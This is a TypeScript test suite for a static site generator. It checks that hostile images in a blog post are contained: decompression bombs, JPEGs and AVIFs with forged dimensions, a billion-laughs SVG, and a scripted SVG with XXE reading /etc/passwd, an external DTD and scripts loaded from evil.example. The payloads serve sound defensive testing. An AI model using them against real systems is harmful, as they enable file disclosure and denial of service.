import assert from 'node:assert/strict'
import { before, describe, it } from 'node:test'
import sharp from 'sharp'
import { fetchPlain, get } from '../support/api.ts'
import { cleanUp, suiteCleanUp } from '../support/clean-up.ts'
import { bomb, photo } from '../support/pictures.ts'
import { eventually, fileErrorsIn, markdown, startSite, type TestSite } from '../support/site.ts'

const MEBIBYTE = 1024 * 1024
// Decoded, each pixel of the bomb takes a byte or more: more memory than the test allows for everything.
const BOMB_SIDE = 16_000
const MAX_GROWTH_BYTES = 128 * MEBIBYTE

/** A JPEG whose frame header (SOF, ITU T.81, section B.2.2) has these sides in place of its own. */
async function lyingJpeg(side: number): Promise<Buffer> {
  const jpeg = await photo(400, 300).jpeg().toBuffer()
  const frame = jpeg.indexOf(Buffer.from([0xff, 0xc0]))
  assert.ok(frame > 0)
  jpeg.writeUInt16BE(side, frame + 5)
  jpeg.writeUInt16BE(side, frame + 7)
  return jpeg
}

/** An AVIF whose property `ispe` (ISO/IEC 23008-12, section 6.5.3) has these sides in place of its own. */
async function lyingAvif(side: number): Promise<Buffer> {
  const avif = await photo(400, 300).avif({ effort: 0 }).toBuffer()
  const size = avif.indexOf('ispe')
  assert.ok(size > 0)
  avif.writeUInt32BE(side, size + 8)
  avif.writeUInt32BE(side, size + 12)
  return avif
}

const entities = Array.from({ length: 30 }, (_, level) => `<!ENTITY e${level + 1} "${`&e${level};`.repeat(10)}">`)
/** Its text would have ten to the power of thirty times three letters. */
const LAUGHS = `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY e0 "lol">${entities.join('')}]><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 20 10"><text>&e30;</text></svg>`
const SCRIPTED = `<?xml-stylesheet href="https://evil.example/x.css"?><!DOCTYPE svg [<!ENTITY secret SYSTEM "file:///etc/passwd"><!ENTITY % far SYSTEM "https://evil.example/x.dtd"> %far;]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="20" onload="alert(1)">
<script href="https://evil.example/x.js"/><script>alert(1)</script><style>@import "https://evil.example/x.css";</style>
<image xlink:href="https://evil.example/x.png"/><use href="https://evil.example/x.svg#x"/><text>&secret;</text>
<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/"/></foreignObject></svg>`

const HOSTILE: Record<string, Buffer | string> = {
  'bomb.png': bomb(BOMB_SIDE),
  // Fewer pixels than the limit of scaled decoding, and more than that of a picture that must be decoded whole.
  'interlaced.png': bomb(6_000),
  // Thousands of millions of pixels; and fewer than the limit, but more than the file has.
  'huge.jpg': await lyingJpeg(65_000),
  'short.jpg': await lyingJpeg(2_000),
  'huge.avif': await lyingAvif(60_000),
  'short.avif': await lyingAvif(4_000),
  'laughs.svg': LAUGHS,
  'scripted.svg': SCRIPTED,
}
const PHOTO = await photo(900, 300).jpeg({ quality: 95 }).toBuffer()
const OTHERS = ['/', '/blog', '/blog/usual', '/search?q=usual', '/llms.txt']

/** The highest memory use of this process so far, in bytes. The process that decodes pictures is another one. */
const peakBytes = () => process.resourceUsage().maxRSS * 1024

describe('a post with hostile pictures', () => {
  const suite = suiteCleanUp()
  const site = {} as TestSite
  const pages = new Map<string, string>()
  let peakBefore = 0
  before(async () => {
    const usual = markdown(
      { title: 'Usual', date: '2024-01-02', updated: '2024-01-03' },
      '![A view](../images/view.jpg)',
    )
    Object.assign(site, await startSite({ 'posts/usual.md': usual, 'images/view.jpg': PHOTO }))
    cleanUp(suite, () => site.close())
    await eventually(async () => assert.match((await get(site, '/blog/usual')).body, /<picture>/))
    for (const path of OTHERS) pages.set(path, (await get(site, path)).body)
    peakBefore = peakBytes()

    for (const [name, content] of Object.entries(HOSTILE)) await site.write(`images/${name}`, content)
    await site.write('images/later.jpg', await photo(700, 300).jpeg({ quality: 95 }).toBuffer())
    const shown = ['later.jpg', ...Object.keys(HOSTILE)].map((name) => `![${name}](../images/${name})`)
    const fields = { title: 'Hostile', date: '2024-01-01', image: '../images/bomb.png', imageAlt: 'A bomb' }
    await site.write('posts/hostile.md', markdown(fields, shown.join('\n\n')))
    await eventually(async () => {
      assert.equal((await get(site, '/blog/hostile')).body.match(/<picture>/g)?.length, 2)
      assert.equal(fileErrorsIn(site).length, 5, fileErrorsIn(site).join('\n'))
    })
  })

  it('has a named fault for each that cannot be decoded, and for no other', () => {
    const faults = fileErrorsIn(site).map((line) => line.replace(/(short.avif:1: has no smaller sizes): .+/, '$1'))
    assert.deepEqual(faults.sort(), [
      'content/images/bomb.png:1: has no smaller sizes: Input image exceeds pixel limit',
      'content/images/huge.avif:1: has no smaller sizes: Input image exceeds pixel limit',
      'content/images/huge.jpg:1: has no smaller sizes: Input image exceeds pixel limit',
      'content/images/interlaced.png:1: has more than 24 million pixels: no smaller sizes of it are made',
      'content/images/short.avif:1: has no smaller sizes',
    ])
  })

  it('shows them as they are, with the sizes that they state, and an ordinary one with its sizes', async () => {
    const { status, body } = await get(site, '/blog/hostile')
    assert.equal(status, 200)
    const withoutSizes = Object.keys(HOSTILE).filter((name) => name !== 'short.jpg')
    const sizes = withoutSizes.map((name) => {
      const [, width, height] =
        new RegExp(`<img src="../images/${name}" [^>]*width="(\\d+)" height="(\\d+)"`).exec(body) ?? []
      return [name, Number(width), Number(height)]
    })
    assert.deepEqual(sizes, [
      ['bomb.png', BOMB_SIDE, BOMB_SIDE],
      ['interlaced.png', 6_000, 6_000],
      ['huge.jpg', 65_000, 65_000],
      ['huge.avif', 60_000, 60_000],
      ['short.avif', 4_000, 4_000],
      // Without a size of its own, a drawing fills the line.
      ['laughs.svg', 672, 336],
      ['scripted.svg', 40, 20],
    ])
    // A decoder fills in the pixels that a JPEG lacks.
    const [ordinary, short, ...more] = body.match(/<picture>.*?<\/picture>/g) ?? []
    assert.match(ordinary ?? '', /later\.jpg.*width="700" height="300"/)
    assert.match(short ?? '', /short\.jpg.*width="2000" height="2000"/)
    assert.deepEqual(more, [])
    assert.doesNotMatch(body, /evil\.example|lol|root:/)
    const { body: sent, headers } = await fetchPlain(site, '/images/laughs.svg')
    assert.equal(sent.toString(), LAUGHS)
    assert.match(headers.get('content-security-policy') ?? '', /^default-src 'none'.*sandbox/)
  })

  it('leaves the pages of others and their pictures as they were', async () => {
    for (const [path, before] of pages) {
      const { body } = await get(site, path)
      // The list of posts, and the post before this one, name the new post.
      assert.equal(withoutNewPost(body), withoutNewPost(before), path)
    }
    const addresses = pages.get('/blog/usual')?.match(/\/assets\/pictures\/[^ "]+/g) ?? []
    assert.ok(addresses.length >= 4)
    for (const address of addresses) {
      const { status, body } = await fetchPlain(site, address)
      assert.equal(status, 200, address)
      assert.equal((await sharp(body).metadata()).width, Number(/-(\d+)\.\w+$/.exec(address)?.[1]))
    }
  })

  it('takes no memory of the service for their pixels', () => {
    const growth = peakBytes() - peakBefore
    assert.ok(growth < MAX_GROWTH_BYTES, `${Math.round(growth / MEBIBYTE)} MiB`)
  })
})

function withoutNewPost(body: string): string {
  return body
    .replace(/<li>(?:(?!<li>).)*?href="\/blog\/hostile".*?<\/li>\n/s, '')
    .replace(/<nav class="neighbours".*?<\/nav>/s, '')
    .replace(/<link rel="prev" href="[^"]+">\n/, '')
    .replace(/^- \[Hostile\].*\n/m, '')
}
